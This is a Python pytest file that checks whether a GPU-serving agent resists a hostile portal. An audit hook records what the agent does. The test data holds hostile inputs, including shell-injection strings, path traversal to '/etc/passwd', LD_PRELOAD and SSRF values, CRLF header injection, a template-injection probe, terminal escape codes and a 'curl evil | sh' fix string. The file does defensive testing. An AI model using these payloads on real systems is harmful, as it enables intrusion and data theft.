"""A hostile portal, over the real protocol, with every message type: the agent starts nothing, reads nothing, reaches
nothing that it would not with an honest one. What it does is written down by an audit hook inside of it.
"""

import ast
import asyncio
import contextlib
import os
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from poolhouse_agent.protocol.frames import FROM_GATEWAY, FrameType
from poolhouse_agent.state import State

from tests.agent.conftest import join
from tests.fakes.pool import CANCEL, GOAWAY, REQUEST, WINDOW, Pool, Tunnel, desired

HERE = Path(__file__).parent
BODY = 0x05
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


class Neighbour:
    """Something in the owner's network that nobody should reach: it counts who comes."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        self.url = ""

    async def serve(self, request: web.Request) -> web.Response:
        self.visits.append(request.path)
        return web.Response(text="secret of the neighbour")


@pytest.fixture
async def neighbour() -> AsyncIterator[Neighbour]:
    made = Neighbour()
    application = web.Application()
    application.router.add_route("*", "/{any:.*}", made.serve)
    runner = web.AppRunner(application)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    made.url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}"  # type: ignore[union-attr]  the kernel's port
    yield made
    await runner.cleanup()


class Audited:
    """An agent in a process of its own, and what it did to the machine."""

    def __init__(self, folder: Path, state: State) -> None:
        self.folder = folder
        self.state = state
        self.audit = folder / "audit.txt"
        self.secret = folder / "owner" / "secret.txt"
        self.secret.parent.mkdir()
        self.secret.write_text("the owner's secret", encoding="ascii")
        (folder / "agent.toml").write_text("", encoding="ascii")

    @contextlib.asynccontextmanager
    async def running(self) -> AsyncIterator[asyncio.subprocess.Process]:
        words = ["--config", str(self.folder / "agent.toml"), "--state", str(self.state.folder), "run"]
        log = (self.folder / "run.log").open("wb")
        child = await asyncio.create_subprocess_exec(
            sys.executable, str(HERE / "audited.py"), str(self.audit), *words, stdin=asyncio.subprocess.DEVNULL,
            stdout=log, stderr=log, env={**os.environ, "POOLHOUSE_NVML": "/none"}, cwd=self.folder / "owner",
        )  # fmt: skip
        log.close()
        try:
            yield child
        finally:
            if child.returncode is None:
                child.terminate()
            async with asyncio.timeout(30):
                await child.wait()

    def did(self, *events: str) -> list[tuple[Any, ...]]:
        """The arguments of each event of these kinds."""
        return [arguments for event, arguments in self._all() if event in events]

    def _all(self) -> Iterator[tuple[str, tuple[Any, ...]]]:
        for line in self.audit.read_text(encoding="utf-8").splitlines():
            event, _, arguments = line.partition("\t")
            yield event, ast.literal_eval(arguments)


@pytest.fixture
async def agent(pool: Pool, state: State, tmp_path: Path) -> Audited:
    await join(pool, state)
    return Audited(tmp_path, state)


def hostile_deployments(agent: Audited, neighbour: Neighbour) -> list[dict[str, Any]]:
    """One deployment for each field a portal may fill, with what a portal should not be able to say there."""
    path, command = str(agent.secret), "$(touch owned);touch owned"
    changes: list[dict[str, Any]] = [
        {"deployment": "../../owned"}, {"deployment": "/etc"}, {"deployment": "--flag"},
        {"model": path}, {"model": command}, {"model": "--help"},
        {"engine": "bash"}, {"engine": "vllm"}, {"engine": "external"},
        {"engine": "external", "settings": {"url": neighbour.url}},
        {"artefact_digest": "/etc/passwd"}, {"dtype": command}, {"quantization": "--trust-remote-code"},
        {"engine_args": {"trust_remote_code": True}}, {"engine_args": {"middleware": "os.system"}},
        {"engine_args": {"config": path}}, {"engine_args": {"--host": "0.0.0.0"}},  # noqa: S104  what must not get through
        {"settings": {"behaviour_file": path}}, {"settings": {"command": command}}, {"settings": {"port": 22}},
        {"settings": {"env": {"LD_PRELOAD": path}}}, {"command": command, "exec": [command], "path": path},
        {"engine_version": "../../bin/sh"}, {"source": neighbour.url}, {"source": f"file://{path}"},
        {"source": path, "revision": "../../x"},
    ]  # fmt: skip
    return [desired(**{"deployment": f"dep_{number}", **change}) for number, change in enumerate(changes, start=2)]


def hostile_requests(agent: Audited, neighbour: Neighbour) -> list[tuple[dict[str, Any], Any]]:
    """Heads and bodies of requests that no honest gateway sends, none of which may be answered from elsewhere."""
    message = {"role": "user", "content": "hello"}
    media = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"{neighbour.url}/cat.png"}}]}
    local = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"file://{agent.secret}"}}]}
    plain = {"messages": [message], "max_tokens": 3}
    return [
        ({"path": f"{neighbour.url}/"}, plain),
        ({"path": f"//{neighbour.url.removeprefix('http://')}/"}, plain),
        ({"path": f"@{neighbour.url.removeprefix('http://')}/"}, plain),
        ({"path": "/v1/../../metrics"}, plain), ({"path": f"/..{agent.secret}"}, plain),
        ({"path": "/v1/chat/completions?x=\r\nhost: evil"}, plain), ({"path": "/v1/load_lora_adapter"}, plain),
        ({"path": "/shutdown", "method": "POST"}, plain), ({"method": "CONNECT"}, plain), ({"method": "DELETE"}, plain),
        ({"model": str(agent.secret)}, plain), ({"model": "acme/none"}, plain),
        ({}, {**plain, "messages": [media]}), ({}, {**plain, "messages": [local]}),
        ({}, {**plain, "kv_transfer_params": {"remote": neighbour.url}}),
        ({}, {**plain, "chat_template": "{{ ''.__class__ }}"}), ({}, {**plain, "documents": [neighbour.url]}),
        ({}, {**plain, "lora_request": {"path": str(agent.secret)}}), ({}, {**plain, "n": 10_000}),
        ({}, b"\x00\xff"), ({}, b"[" * 100_000), ({}, [plain]),
    ]  # fmt: skip


def ended_by() -> list[tuple[str, bytes]]:
    """Messages that end the tunnel as a protocol error; test_tunnel_protocol_errors.py has all of them."""
    return [
        ("a type of the agent's own", bytes((0x15,)) + (1).to_bytes(4, "big") + b"{}"),
        ("a request without a head", frame(REQUEST, 90_000, b"{}")),
    ]


def ignored() -> list[bytes]:
    """Frames about a stream that has ended, which a gateway cannot know."""
    return [frame(CANCEL, 1), frame(WINDOW, 1, b"\x7f\xff\xff\xff"), frame(BODY, 1, b"x" * 1000)]


def frame(kind: int, stream: int, payload: bytes = b"") -> bytes:
    return bytes((kind,)) + stream.to_bytes(4, "big") + payload


async def test_a_hostile_portal_gets_nothing(pool: Pool, agent: Audited, neighbour: Neighbour) -> None:
    before = {path: path.read_bytes() for path in agent.secret.parent.rglob("*")}
    async with agent.running():
        await (await pool.tunnel()).until_ready()
        await _every_heartbeat_answer(pool, agent, neighbour)
        await _every_request(pool, agent, neighbour)
        await _every_other_frame(pool)
        await _every_session_answer(pool, neighbour)
        tunnel = await pool.tunnel(after=len(pool.tunnels) - 1)
        await tunnel.until_ready()
        answer = await tunnel.ask({"messages": [{"role": "user", "content": "hello"}], "max_tokens": 3})
        assert answer.failure is None  # it has survived all of it, and serves

    assert neighbour.visits == []
    assert {path: path.read_bytes() for path in agent.secret.parent.rglob("*")} == before
    assert list(agent.folder.rglob("owned")) == []
    _assert_programs(agent)
    _assert_files(agent)
    _assert_addresses(agent, pool)
    assert "\x1b" not in (agent.folder / "run.log").read_text(encoding="utf-8")


async def _every_heartbeat_answer(pool: Pool, agent: Audited, neighbour: Neighbour) -> None:
    """Hostile deployments beside the honest one, fields nobody asked for, and words for the owner's terminal."""
    honest = pool.desired
    pool.desired = [*honest, *hostile_deployments(agent, neighbour)]
    pool.extra = {
        "command": "reboot", "exec": ["reboot"], "wish": "leave", "update": neighbour.url, "owner": {"code": ""},
        "files": [str(agent.secret)], "messages": [{"level": "warn", "code": "x", "text": ESCAPE, "fix": ESCAPE}],
    }  # fmt: skip
    seen = await pool.heartbeat(lambda beat: len(beat["deployments"]) > len(honest))
    told = {one["deployment"]: one["code"] for one in seen["deployments"]}
    await pool.heartbeat(lambda _: True)
    assert told["dep_1"] == ""
    pool.desired = honest
    await pool.heartbeat(lambda beat: len(beat["deployments"]) == len(honest))
    error = {"error": {"code": ESCAPE, "message": ESCAPE, "fix": "curl evil | sh"}}
    pool.raw["heartbeat"] = web.json_response(error, status=500)
    await asyncio.sleep(1.5)
    pool.raw.clear()
    await pool.heartbeat(lambda _: True)


async def _every_request(pool: Pool, agent: Audited, neighbour: Neighbour) -> None:
    tunnel = pool.tunnels[-1]
    await tunnel.until_ready()
    for head, body in hostile_requests(agent, neighbour):
        answer = await tunnel.ask(body, **head)
        assert answer.failure is not None or answer.head["status"] >= 400, (head, body)
        assert b"secret" not in answer.body


async def _every_other_frame(pool: Pool) -> None:
    """What has no stream is ignored or ends the tunnel; after either the agent is there again."""
    for message in ignored():
        await pool.tunnels[-1].socket.send_bytes(message)
    for name, message in ended_by():
        tunnel: Tunnel = pool.tunnels[-1]
        await tunnel.socket.send_bytes(message)
        await tunnel.until(lambda tunnel=tunnel: tunnel.close_code is not None)
        assert tunnel.close_code == 4400, name
        await pool.tunnel(after=len(pool.tunnels))
    seen = len(pool.tunnels)
    await pool.tunnels[-1].socket.send_bytes(frame(GOAWAY, 0))
    await pool.tunnel(after=seen)
    sent = {FrameType(message[0]) for message in [*ignored(), ended_by()[1][1], frame(GOAWAY, 0)]}
    assert sent == set(FROM_GATEWAY)


async def _every_session_answer(pool: Pool, neighbour: Neighbour) -> None:
    """A tunnel elsewhere, a nonce that would sign something else."""
    there = neighbour.url.replace("http", "ws")
    session = {"token": "ph-session-x", "expires_in_s": 600, "generation": 9, "tunnel_url": f"{there}/other"}
    answers: list[tuple[str, Any]] = [
        ("session/challenge", {"nonce": "a\nnode_other\nhttps://evil.example\n1", "server_time": ""}),
        ("session", session),
    ]
    for path, answer in answers:
        pool.raw = {path: web.json_response(answer)}
        pool.refuse["heartbeat"] = (401, "session_invalid")
        await pool.tunnels[-1].socket.close(code=4401)
        await asyncio.sleep(1.5)
    pool.raw, pool.refuse = {}, {}
    await pool.tunnel(after=len(pool.tunnels))


def _assert_programs(agent: Audited) -> None:
    """Only the agent's own modules run, by its own interpreter, and none through a shell."""
    assert agent.did("os.system", "os.exec", "os.posix_spawn", "os.spawn", "pty.spawn", "urllib.Request") == []
    started = agent.did("subprocess.Popen")
    assert started != []
    for executable, argv, *_ in started:
        assert executable == sys.executable, argv
        assert "-c" not in argv


def _assert_files(agent: Audited) -> None:
    """Nothing is opened below the owner's folder, and nothing is written outside the state folder."""
    state = str(agent.state.folder)
    for path, mode, flags in agent.did("open"):
        assert not str(path).startswith(str(agent.secret.parent)), path
        is_writing = isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
        assert not is_writing or str(path).startswith((state, "/dev/null")) or isinstance(path, int), (path, mode)
    for moved in agent.did("os.rename", "os.remove", "os.mkdir", "os.chmod", "os.link", "os.symlink", "shutil.rmtree"):
        assert str(moved[0]).startswith(state), moved


def _assert_addresses(agent: Audited, pool: Pool) -> None:
    """The pool, and engines on loopback."""
    port = int(pool.server.rpartition(":")[2])
    reached = {found[0] for found in agent.did("socket.connect")}
    assert {address[0] for address in reached} == {"127.0.0.1"}
    assert port in {address[1] for address in reached}
    assert all(found[0] == "127.0.0.1" for found in agent.did("socket.getaddrinfo") if found[0] is not None)
